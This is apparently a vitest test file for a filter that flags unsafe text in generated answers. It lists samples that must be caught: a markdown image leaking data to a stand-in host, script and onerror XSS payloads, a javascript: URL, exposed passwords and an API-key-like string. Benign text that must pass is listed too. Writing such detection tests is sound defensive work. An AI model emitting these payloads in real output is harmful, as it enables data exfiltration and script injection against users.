import { describe, expect, test } from 'vitest';
import { findUnsafeText } from './unsafe-text.ts';

const rows = [['shop.example', 'info@shop.example', 'sku-2025-0000-1111-2222-3333-abc']];
const unsafeIn = (text: string): readonly string[] =>
  findUnsafeText(text, rows).map(({ start, end }) => text.slice(start, end));

describe('what no answer may hold', () => {
  test.each([
    '![x](http://evil.example/?q=Kanto)',
    '<script>alert(1)</script>',
    '＜img src=x onerror=alert(1)＞',
    'https://evil.example/a',
    'www.evil.example',
    'evil.example/a',
    'javascript:alert(1',
    'someone@evil.example',
    'password is hunter2',
    'パスワードはhunter2です',
    '密码是hunter2',
    'sk-abcdefghijkl0123',
    '&#60;',
    '\u202e',
  ])('%s', (text) => {
    expect(unsafeIn(`Kanto leads ${text}`)).toEqual([text]);
  });

  test.each([
    '**Key findings**\n- Kanto leads (39.3%)',
    'shop.example has the most, info@shop.example the fewest.',
    'Login tickets: 340; passwords were reset 12 times.',
    'A < B and B > C',
    'Revenue is 1.2 million, e.g. in Kanto.',
    'sku-2025-0000-1111-2222-3333-abc sold best.',
  ])('but not %s', (text) => {
    expect(unsafeIn(text)).toEqual([]);
  });
});
